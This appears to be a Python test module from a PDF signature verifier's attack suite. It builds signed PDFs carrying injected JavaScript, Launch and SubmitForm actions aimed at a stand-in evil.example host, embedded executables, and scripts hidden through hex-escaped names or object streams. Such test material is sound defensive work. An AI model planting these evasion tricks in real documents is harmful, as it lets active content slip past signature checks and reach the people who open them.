"""Content that acts: scripts, actions and files, in any revision, plain or packed, named or in escapes."""

from collections.abc import Mapping

from pyhanko.pdf_utils import embed, generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from tests import spoiling
from tests.attacks import bases, forge
from tests.attacks.attack import LATER, Attack, Family
from tests.attacks.bases import DESK
from tests.attacks.siblings import COUNTERSIGNED, PACKED, SEALED
from tests.signing import foreign
from tests.tampering import Spoil, append, put

Writer = IncrementalPdfFileWriter


def action(entries: Mapping[str, generic.PdfObject]) -> generic.DictionaryObject:
    return generic.DictionaryObject({pdf_name(key): value for key, value in entries.items()})


def acts(kind: str, **more: str) -> generic.DictionaryObject:
    texts: dict[str, generic.PdfObject] = {f"/{key}": pdf_string(value) for key, value in more.items()}
    return action({"/S": pdf_name(f"/{kind}"), **texts})


SCRIPT = acts("JavaScript", JS="app.alert(1)")
_KINDS: tuple[tuple[str, str, generic.DictionaryObject], ...] = (
    ("a script", "脚本", SCRIPT),
    ("a launch", "启动程序", acts("Launch", F="calc.exe")),
    ("a submission", "提交表单", acts("SubmitForm", F="https://evil.example/")),
    ("an import", "导入数据", acts("ImportData", F="data.fdf")),
    ("a reset", "清空表单", acts("ResetForm")),
    ("another file", "跳到外部文件", acts("GoToR", F="other.pdf")),
    ("an attachment's page", "跳到附件", acts("GoToE", F="other.pdf")),
    ("a rendition", "播放多媒体", acts("Rendition")),
    ("a sound", "播放声音", acts("Sound")),
    ("a movie", "播放影片", acts("Movie")),
)


def at_opening(what: generic.DictionaryObject) -> Spoil:
    def spoil(writer: Writer) -> None:
        writer.root[pdf_name("/OpenAction")] = writer.add_object(what)
        writer.update_root()

    return spoil


def left_loose(what: generic.DictionaryObject) -> Spoil:
    """Leave an action that nothing leads to, for a later revision to hook in."""
    return lambda writer: _add(writer, what)


def _add(writer: Writer, what: generic.DictionaryObject) -> None:
    writer.add_object(what)


def on_field(key: str, what: generic.DictionaryObject) -> Spoil:
    return lambda writer: put(writer, "net", key, what)


def named_script(writer: Writer) -> None:
    """List a script by name, which programs run at opening."""
    listed = generic.ArrayObject([pdf_string("a"), writer.add_object(SCRIPT)])
    names = writer.root["/Names"]
    names[pdf_name("/JavaScript")] = generic.DictionaryObject({pdf_name("/Names"): listed})
    writer.update_container(names)


def letter_script(writer: Writer) -> None:
    listed = generic.ArrayObject([pdf_string("a"), writer.add_object(SCRIPT)])
    tree = generic.DictionaryObject({pdf_name("/Names"): listed})
    writer.root[pdf_name("/Names")] = generic.DictionaryObject({pdf_name("/JavaScript"): tree})
    writer.update_root()


def outside_stream(writer: Writer) -> None:
    """Leave a stream whose content is a file elsewhere."""
    writer.add_object(generic.StreamObject(action({"/F": pdf_string("c:\\secret.txt")}), stream_data=b""))


def link(writer: Writer) -> None:
    """Lay a link to an address over the page."""
    page, _ = writer.find_page_for_modification(0)
    rect = generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)])
    target = acts("URI", URI="https://evil.example/")
    note = action({"/Type": pdf_name("/Annot"), "/Subtype": pdf_name("/Link"), "/Rect": rect, "/A": target})
    writer.register_annotation(page, writer.add_object(note))


def replaced_record(writer: Writer) -> None:
    """Put another file in the place of the issue record."""
    names = writer.root["/Names"]["/EmbeddedFiles"]["/Names"]
    file = embed.EmbeddedFileObject.from_file_data(writer, data=b"{}", mime_type="application/json")
    spec = embed.FileSpec(file_spec_string="issue.json", file_name="issue.json", embedded_data=file)
    names[1] = writer.add_object(spec.as_pdf_object())
    writer.update_container(names)


def loose_file(writer: Writer) -> None:
    """Leave a file that no list names."""
    embed.EmbeddedFileObject.from_file_data(writer, data=b"MZ" + bytes(64), mime_type="application/octet-stream")


def _issued_with(spoil: Spoil) -> bytes:
    """Let the firm itself issue what it should not: the record's other checks are passed, this one is not."""
    return DESK.seal(DESK.finish(DESK.issue(spoil)))


def _packed_script() -> bytes:
    """Hide a script in an object stream of the second signer's revision."""

    def spoil(writer: Writer) -> None:
        foreign.fill(writer, "5.00")  # a stream alone is no reason for pyHanko to save
        writer.add_object(SCRIPT, obj_stream=writer.prepare_object_stream())

    return bases.then_signed(bases.packed(), spoil)


def _escaped_script() -> bytes:
    pdf = bases.letter()
    hidden = b"<< /S /J#61vaScript /#4AS (app.alert\\(1\\)) >>"
    return foreign.signed(forge.revision(pdf, {forge.free_number(pdf): hidden}), "Signature2")


def prepared_letters() -> dict[str, bytes]:
    """Letters whose author had put what acts into them before anybody signed."""
    acting = {name: bases.prepared_page(at_opening(what)) for name, _, what in _KINDS}
    packed = foreign.signed(bases.compressed(append(foreign.page(), at_opening(SCRIPT))))
    return {**acting, "a script by name": bases.prepared_page(letter_script), "a packed script": packed}


_FIRM: tuple[tuple[str, str, int, Spoil], ...] = (
    ("a script at opening", "打开时的脚本", 5, at_opening(SCRIPT)),
    ("a launch at opening", "打开时启动程序", 5, at_opening(acts("Launch", F="calc.exe"))),
    ("an attachment of others", "外来附件", 5, spoiling.attach),
    ("a second form in XFA", "另一套表单（XFA）", 5, spoiling.xfa_form),
)
_SPOILS: tuple[tuple[str, str, int, Spoil], ...] = (
    *((f"{name} at opening", f"打开时{said}", 5, at_opening(what)) for name, said, what in _KINDS),
    *((f"{name} left loose", f"藏一个{said}的动作", 5, left_loose(what)) for name, said, what in _KINDS[:3]),
    ("a script on a field", "栏位上的脚本（/AA）", 5, on_field("/AA", action({"/C": SCRIPT}))),
    ("an address on a field", "栏位上打开网址（/A）", 10, on_field("/A", acts("URI", URI="https://evil.example/"))),
    ("a script by name", "名称目录里的脚本", 5, named_script),
    ("a link over the page", "盖满页面的网址链接", 10, link),
    ("content outside the file", "数据流的内容放在文件之外", 5, outside_stream),
    ("an attachment", "加一份附件", 5, spoiling.attach),
    ("a file that no list names", "藏一份不列名的附件", 5, loose_file),
    ("the issue record replaced", "签发记录换成别的附件", 5, replaced_record),
    ("a second form in XFA", "另一套表单（XFA）", 5, spoiling.xfa_form),
)


def _insider(row: tuple[str, str, int, Spoil]) -> Attack:
    name, said, check, spoil = row
    return Attack(f"active insider: {name}", f"核签人：{said}", check, lambda: bases.by_insider(spoil), SEALED)


def _by_firm(row: tuple[str, str, int, Spoil]) -> Attack:
    name, said, check, spoil = row
    return Attack(f"active at issue: {name}", f"签发时就有：{said}", check, lambda: _issued_with(spoil), SEALED)


def _letter(name: str, said: str, what: generic.DictionaryObject) -> Attack:
    build = lambda: bases.then_signed(bases.letter(), at_opening(what))  # noqa: E731 - a builder, not a helper
    return Attack(
        f"active letter: {name} at opening", f"外来文件再签时：打开时{said}", 5, build, COUNTERSIGNED, at=LATER
    )


ACTIVE = Family(
    "active",
    "脚本、动作与附件",
    (
        *map(_insider, _SPOILS),
        *map(_by_firm, _FIRM),
        *(_letter(*row) for row in _KINDS),
        Attack(
            "active letter: a script by name",
            "外来文件再签时：名称目录里的脚本",
            5,
            lambda: bases.then_signed(bases.letter(), letter_script),
            COUNTERSIGNED,
            at=LATER,
        ),
        Attack(
            "active letter: a packed script",
            "外来文件再签时：藏在对象流里的脚本",
            5,
            _packed_script,
            PACKED,
            at=LATER,
        ),
        Attack(
            "active letter: a script in escapes",
            "外来文件再签时：用转义写的脚本",
            5,
            _escaped_script,
            COUNTERSIGNED,
            at=LATER,
        ),
        Attack(
            "active letter: a second form in XFA",
            "外来文件再签时：另一套表单（XFA）",
            5,
            lambda: bases.then_signed(bases.letter(), spoiling.xfa_form),
            COUNTERSIGNED,
            at=LATER,
        ),
        Attack(
            "active letter: content outside the file",
            "外来文件再签时：内容放在文件之外",
            5,
            lambda: bases.then_signed(bases.letter(), outside_stream),
            COUNTERSIGNED,
            at=LATER,
        ),
        Attack(
            "active tail: a script at opening",
            "另存：打开时的脚本",
            5,
            lambda: append(bases.sealed(), at_opening(SCRIPT)),
            SEALED,
        ),
    ),
)
